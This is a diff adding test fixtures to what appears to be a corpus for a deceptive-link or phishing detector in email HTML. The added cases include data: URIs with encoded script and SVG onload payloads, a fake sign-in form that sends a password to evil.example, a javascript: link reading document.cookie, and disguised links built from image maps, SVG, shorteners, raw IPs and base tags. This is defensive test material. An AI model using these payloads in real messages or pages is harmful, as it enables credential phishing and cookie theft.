@@ -119,4 +119,78 @@ export const DECEPTIVE_LINKS: CorpusDraft[] = [
     '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">case study</a>',
   ),
   d('script or data link', 'vbscript', '<a href="vbscript:msgbox(1)">case study</a>'),
+  d(
+    'script or data link',
+    'data-svg-base64',
+    '<a href="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">the chart</a>',
+  ),
+  d(
+    'script or data link',
+    'data-svg-percent',
+    '<a href="data:image/svg+xml,%3Csvg%20xmlns%3D%27http%3A%2F%2Fwww.w3.org%2F2000%2Fsvg%27%20onload%3D%27alert(1)%27%2F%3E">the chart</a>',
+  ),
+  d(
+    'script or data link',
+    'data-svg-entities',
+    '<a href="data:image/svg+xml;utf8,&lt;svg xmlns=&quot;http://www.w3.org/2000/svg&quot;&gt;&lt;a href=&quot;https://evil.example&quot;&gt;&lt;text y=&quot;20&quot;&gt;Open&lt;/text&gt;&lt;/a&gt;&lt;/svg&gt;">the chart</a>',
+  ),
+  d(
+    'script or data link',
+    'data-html-plain',
+    '<a href="data:text/html,%3Cscript%3Elocation%3D%27https%3A%2F%2Fevil.example%2F%27%3C%2Fscript%3E">case study</a>',
+  ),
+  d(
+    'script or data link',
+    'data-html-login-form',
+    '<a href="data:text/html;charset=utf-8,&lt;h2&gt;Sign in to view the document&lt;/h2&gt;&lt;form action=&quot;https://evil.example/c&quot;&gt;&lt;input name=p type=password&gt;&lt;/form&gt;">case study</a>',
+  ),
+  d(
+    'script or data link',
+    'data-upper-entity',
+    '<a href=" &#68;ATA:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">case study</a>',
+  ),
+
+  // --- links a browser opens that are not a plain <a href> -----------------------------------------
+  d(
+    'image-map, SVG or <base> link',
+    'area-javascript',
+    '<img src="https://cdn.fairsend.example/acme-cs.png" width="560" usemap="#cs" alt="Case study"><map name="cs"><area shape="rect" coords="0,0,560,300" href="javascript:alert(document.cookie)" alt="case study"></map>',
+  ),
+  d(
+    'image-map, SVG or <base> link',
+    'area-mismatch',
+    '<img src="https://cdn.fairsend.example/sign.png" width="300" usemap="#m" alt="Review and sign"><map name="m"><area shape="rect" coords="0,0,300,60" href="https://docusign-envelope.example/view" alt="docusign.com"></map>',
+  ),
+  d(
+    'image-map, SVG or <base> link',
+    'area-ip',
+    '<img src="https://cdn.fairsend.example/pdf.png" width="120" usemap="#p" alt="PDF"><map name="p"><area shape="default" href="http://198.51.100.23/acme-cs.pdf" alt="case study"></map>',
+  ),
+  d(
+    'image-map, SVG or <base> link',
+    'svg-xlink-javascript',
+    '<svg width="180" height="40" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><rect width="180" height="40" rx="6" fill="#0b5fff"/><text x="20" y="26" fill="#fff">View the case study</text></a></svg>',
+  ),
+  d(
+    'image-map, SVG or <base> link',
+    'svg-xlink-mismatch',
+    '<svg width="260" height="30"><a xlink:href="https://acme-portal.example/login"><text x="0" y="20">acme.com/case-study</text></a></svg>',
+  ),
+  d(
+    'image-map, SVG or <base> link',
+    'svg-href-shortener',
+    '<svg width="200" height="30"><a href="https://bit.ly/3Xk9aQ"><text x="0" y="20">case study</text></a></svg>',
+  ),
+  d('image-map, SVG or <base> link', 'base-path-mismatch', '', {
+    html: `<html><head><base href="https://acme-login.example/"></head><body>${paras(BODY_START, 'Your team can see the case study here: <a href="/cs">acme.com/case-study</a>', BODY_END, 'Sam')}</body></html>`,
+  }),
+  d('image-map, SVG or <base> link', 'base-ip', '', {
+    html: `<base href="http://203.0.113.45/files/">${paras(BODY_START, 'I put together a short case study for your team: <a href="acme-cs.pdf">case study</a>', BODY_END, 'Sam')}`,
+  }),
+  d('image-map, SVG or <base> link', 'base-shortener', '', {
+    html: `<base href="https://tinyurl.com/">${paras(BODY_START, 'I put together a short case study for your team: <a href="acme-cs">case study</a>', BODY_END, 'Sam')}`,
+  }),
+  d('image-map, SVG or <base> link', 'base-late-scheme-relative', '', {
+    html: `${paras(BODY_START, 'I put together a short case study for your team: <a href="cs">https://www.acme.com/cs</a>', BODY_END, 'Sam')}<div><base href="//acme-files.example/"></div>`,
+  }),
 ];
